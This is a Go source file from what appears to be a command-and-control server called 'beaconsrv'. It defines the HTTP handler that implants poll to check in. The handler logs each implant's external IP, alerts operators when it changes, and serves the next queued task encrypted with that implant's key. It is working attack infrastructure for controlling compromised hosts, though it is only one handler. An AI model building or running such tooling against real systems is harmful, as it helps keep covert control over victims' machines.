package handlers

import (
	"net/http"

	"github.com/duskrelay/beaconsrv/envelope"
	"github.com/duskrelay/beaconsrv/notify"
	"github.com/duskrelay/beaconsrv/reqauth"
)

// Task handles GET task_path: the implant's check-in and task-dequeue poll
// (spec §4.6). TouchAndDequeue performs the check-in update and FIFO pop as
// one atomic operation so the queue is re-read after the update, per the
// ordering requirement between steps 2 and 3.
func Task(deps *Deps) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		res, rec, found := authenticate(r, deps)
		if !found {
			notFound(w)
			return
		}

		if changed := rec.SetExternalIP(externalIP(r, deps.TrustProxy)); changed {
			logExternalIPChange(r.Context(), rec.ID(), r.RemoteAddr)
			deps.Notifier.Notify(notify.Event{
				Kind: notify.KindExternalIPSet, ImplantID: rec.ID(), RemoteAddr: r.RemoteAddr,
			})
		}

		if rec.PeekKillCommand() {
			logKillCommandSeen(r.Context(), rec.ID())
		}

		task, hasTask := rec.TouchAndDequeue()

		if err := deps.Store.UpdateImplant(r.Context(), rec.Snapshot()); err != nil {
			logStoreErr(r.Context(), "update implant", err)
		}
		if err := deps.Store.LogCheckin(r.Context(), rec.ID(), true, ""); err != nil {
			logStoreErr(r.Context(), "log checkin", err)
		}

		if !hasTask {
			ok(w)
			return
		}

		encrypted, err := envelope.EncryptString(task, rec.EncryptionKey())
		if err != nil {
			deps.Notifier.ReportBadRequest(r.Context(), reqauth.BadKey, r.RemoteAddr, res.ImplantID)
			notFound(w)
			return
		}
		writeJSON(w, http.StatusOK, map[string]string{"t": encrypted})
	}
}
